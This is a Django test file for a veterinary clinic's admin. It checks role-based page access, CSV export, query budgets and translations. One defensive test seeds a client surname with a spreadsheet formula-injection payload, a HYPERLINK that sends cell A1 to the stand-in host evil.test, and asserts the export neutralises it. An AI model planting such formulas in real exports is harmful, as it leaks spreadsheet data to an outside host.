"""The admin per role: every changelist, add page, change page and history page, for every
rol, as the API's role table says; shared admin actions (CSV export); query budgets."""

import ast
import csv
import gettext
import io

import factory
import pytest
from django.conf import settings
from django.contrib import admin
from django.urls import reverse

from accounts.models import Rol
from accounts.tests.factories import UserFactory
from citas.tests.factories import BloqueoFactory, CitaFactory, HorarioFactory
from clientes.tests.factories import ClienteFactory
from historial.tests.factories import ConsultaFactory, VacunaFactory
from pacientes.tests.factories import PacienteFactory
from recordatorios.tests.factories import MensajeFactory, PlantillaFactory
from sedes.tests.factories import SedeFactory

pytestmark = pytest.mark.django_db

# E = editable page, V = read-only page, F = 403. Columns: changelist, add, change.
ACCESS = {
    "accounts.user": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "FFF", Rol.RECEPCIONISTA: "FFF"},
    "sedes.sede": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "VFV", Rol.RECEPCIONISTA: "VFV"},
    "clientes.cliente": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "VFV", Rol.RECEPCIONISTA: "EEE"},
    "pacientes.paciente": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "EFE", Rol.RECEPCIONISTA: "EEE"},
    "historial.consulta": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "EEV", Rol.RECEPCIONISTA: "VFV"},
    "historial.vacuna": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "EEE", Rol.RECEPCIONISTA: "VFV"},
    "citas.cita": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "EEE", Rol.RECEPCIONISTA: "EEE"},
    "citas.horarioatencion": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "VFV", Rol.RECEPCIONISTA: "VFV"},
    "citas.bloqueo": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "EEV", Rol.RECEPCIONISTA: "EEE"},
    "recordatorios.plantilla": {Rol.ADMIN: "EEE", Rol.VETERINARIO: "VFV", Rol.RECEPCIONISTA: "VFV"},
    "recordatorios.mensaje": {Rol.ADMIN: "VFV", Rol.VETERINARIO: "VFV", Rol.RECEPCIONISTA: "VFV"},
}
# The change page is for an object the vet did not author (another vet's consulta or bloqueo):
# a vet may change only their own, which test_vet_edits_own_* below check.

class PlantillaPorSedeFactory(PlantillaFactory):
    """One active plantilla per tipo × canal × idioma and sede: each at a sede of its own."""

    sede = factory.SubFactory(SedeFactory)


FACTORIES = {
    "accounts.user": UserFactory,
    "sedes.sede": SedeFactory,
    "clientes.cliente": ClienteFactory,
    "pacientes.paciente": PacienteFactory,
    "historial.consulta": ConsultaFactory,
    "historial.vacuna": VacunaFactory,
    "citas.cita": CitaFactory,
    "citas.horarioatencion": HorarioFactory,
    "citas.bloqueo": BloqueoFactory,
    "recordatorios.plantilla": PlantillaPorSedeFactory,
    "recordatorios.mensaje": MensajeFactory,
}
STAFF = (Rol.ADMIN, Rol.VETERINARIO, Rol.RECEPCIONISTA)


def url(label, page, *args):
    app, model = label.split(".")
    return reverse(f"admin:{app}_{model}_{page}", args=args)


def mode(response, page):
    if response.status_code == 403:
        return "F"
    assert response.status_code == 200, response.status_code
    if page == "changelist":
        model_admin = response.context["cl"].model_admin
        return "E" if model_admin.has_change_permission(response.wsgi_request) else "V"
    return "E" if response.context["has_change_permission"] or page == "add" else "V"


def test_every_registered_model_is_in_the_access_table():
    registered = {f"{model._meta.app_label}.{model._meta.model_name}" for model in admin.site._registry}
    apps = {"accounts", "sedes", "clientes", "pacientes", "citas", "historial", "recordatorios", "demo"}
    ours = {label for label in registered if label.split(".")[0] in apps}
    assert ours == set(ACCESS)


@pytest.mark.parametrize("rol", STAFF)
@pytest.mark.parametrize("label", sorted(ACCESS))
def test_staff_access_per_page_follows_the_role_table(web, rol, label):
    obj = FACTORIES[label]()
    client = web(rol)

    seen = "".join(
        mode(client.get(target), page)
        for page, target in (
            ("changelist", url(label, "changelist")),
            ("add", url(label, "add")),
            ("change", url(label, "change", obj.pk)),
        )
    )

    assert seen == ACCESS[label][rol]


@pytest.mark.parametrize("rol", STAFF)
@pytest.mark.parametrize("label", sorted(set(ACCESS) - {"accounts.user", "citas.horarioatencion"}))
def test_audit_history_is_visible_to_whoever_may_view_the_object(web, rol, label):
    obj = FACTORIES[label]()

    response = web(rol).get(url(label, "history", obj.pk))

    assert response.status_code == (403 if ACCESS[label][rol][2] == "F" else 200)


@pytest.mark.parametrize("label", sorted(ACCESS))
def test_a_cliente_user_is_sent_to_the_login_page_from_every_admin_page(web, label):
    obj = FACTORIES[label]()
    client = web(Rol.CLIENTE)

    for target in (url(label, "changelist"), url(label, "add"), url(label, "change", obj.pk)):
        response = client.get(target)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))


def test_vet_edits_own_consulta_but_only_views_another_vets(web, user_of_rol):
    client = web(Rol.VETERINARIO)
    vet = client.session["_auth_user_id"]
    propia = ConsultaFactory(veterinario_id=vet)
    ajena = ConsultaFactory()

    assert mode(client.get(url("historial.consulta", "change", propia.pk)), "change") == "E"
    assert mode(client.get(url("historial.consulta", "change", ajena.pk)), "change") == "V"
    response = client.post(url("historial.consulta", "change", ajena.pk), {"motivo": "Cambiado"})
    assert response.status_code == 403
    ajena.refresh_from_db()
    assert ajena.motivo != "Cambiado"


def test_vet_may_not_delete_another_vets_bloqueo(web):
    client = web(Rol.VETERINARIO)
    ajeno = BloqueoFactory()

    response = client.post(url("citas.bloqueo", "delete", ajeno.pk), {"post": "yes"})

    assert response.status_code == 403


@pytest.mark.parametrize("rol", [Rol.RECEPCIONISTA, Rol.VETERINARIO])
def test_staff_index_lists_only_the_models_of_their_rol(web, rol):
    response = web(rol).get(reverse("admin:index"))

    assert response.status_code == 200
    models = {m["object_name"] for app in response.context["app_list"] for m in app["models"]}
    assert "User" not in models
    assert {"Cliente", "Paciente", "Cita", "Consulta", "Vacuna"} <= models


def test_index_offers_the_patient_search_and_the_agenda(web):
    response = web(Rol.RECEPCIONISTA).get(reverse("admin:index"))

    html = response.content.decode()
    assert reverse("admin:pacientes_paciente_changelist") in html
    assert reverse("admin:citas_cita_agenda") in html


def test_export_selected_rows_to_csv_with_the_changelist_columns(web):
    elegidos = ClienteFactory.create_batch(2, ciudad="Logroño")
    ClienteFactory()

    response = web(Rol.RECEPCIONISTA).post(
        url("clientes.cliente", "changelist"),
        {"action": "export_csv", "_selected_action": [c.pk for c in elegidos]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Apellidos", "Nombre", "Documento"]
    assert sorted(row[0] for row in rows[1:]) == sorted(c.apellidos for c in elegidos)
    assert {row[5] for row in rows[1:]} == {"Logroño"}


def test_export_csv_shows_choice_labels_and_booleans_in_words(web):
    PacienteFactory(especie="gato", activo=True)

    client = web(Rol.ADMIN)
    paciente_id = client.get(url("pacientes.paciente", "changelist")).context["cl"].result_list[0].pk
    response = client.post(
        url("pacientes.paciente", "changelist"), {"action": "export_csv", "_selected_action": [paciente_id]}
    )

    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert row[header.index("Especie")] == "Gato"
    assert row[header.index("Activo")] == "Sí"


def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(web):
    # given an owner who typed a formula as their surname (through the API, say)
    cliente = ClienteFactory(apellidos='=HYPERLINK("http://evil.test/?"&A1,"ver")', telefono="+34 611 000 000")

    response = web(Rol.RECEPCIONISTA).post(
        url("clientes.cliente", "changelist"), {"action": "export_csv", "_selected_action": [cliente.pk]}
    )

    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert row[header.index("Apellidos")] == "'" + cliente.apellidos
    assert row[header.index("Teléfono")] == "'+34 611 000 000"
    assert row[header.index("Nombre")] == cliente.nombre


@pytest.mark.parametrize("label", sorted(ACCESS))
def test_changelists_run_a_constant_number_of_queries(web, label, django_assert_max_num_queries):
    client = web(Rol.ADMIN)
    FACTORIES[label].create_batch(2)
    with django_assert_max_num_queries(20) as few:
        client.get(url(label, "changelist"))
    FACTORIES[label].create_batch(25)

    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(url(label, "changelist"))

    assert response.status_code == 200
    assert len(response.context["cl"].result_list) >= 27


# --- Spanish by default, English available -------------------------------------------------------


def test_admin_speaks_spanish_by_default(web):
    response = web(Rol.RECEPCIONISTA).get(reverse("admin:index"))

    assert response["Content-Language"] == "es"
    assert "Buscar paciente" in response.content.decode()


def test_admin_speaks_english_on_request(web):
    response = web(Rol.RECEPCIONISTA).get(reverse("admin:citas_cita_agenda"), HTTP_ACCEPT_LANGUAGE="en")

    html = response.content.decode()
    assert response["Content-Language"] == "en"
    assert "Daily schedule" in html and "No appointments on this day." in html


def read_po(path):
    """{msgid: msgstr} of the translated singular entries of a .po file."""
    entries, current, key = {}, {}, None
    for line in [*path.read_text(encoding="utf-8").splitlines(), ""]:
        if not line.strip():
            if current.get("msgid") and current.get("msgstr") and "msgctxt" not in current:
                entries[current["msgid"]] = current["msgstr"]
            current, key = {}, None
        elif line.startswith(("msgid ", "msgstr ", "msgctxt ")):
            key, _sep, value = line.partition(" ")
            current[key] = ast.literal_eval(value)
        elif line.startswith('"') and key:
            current[key] += ast.literal_eval(line)
        elif not line.startswith("#"):
            key = None
    return entries


def test_the_committed_english_catalog_is_compiled_and_complete():
    # The .mo is committed so that no deployment needs gettext; it must match the .po.
    folder = settings.BASE_DIR / "locale" / "en" / "LC_MESSAGES"
    with (folder / "django.mo").open("rb") as mo:
        compiled = gettext.GNUTranslations(mo)
    po = read_po(folder / "django.po")

    text = (folder / "django.po").read_text(encoding="utf-8")
    untranslated = text.count('msgstr ""\n\n') + text.endswith('msgstr ""\n') + text.count('msgstr[0] ""')

    assert po
    assert untranslated == 0
    assert {msgid: compiled.gettext(msgid) for msgid in po} == po
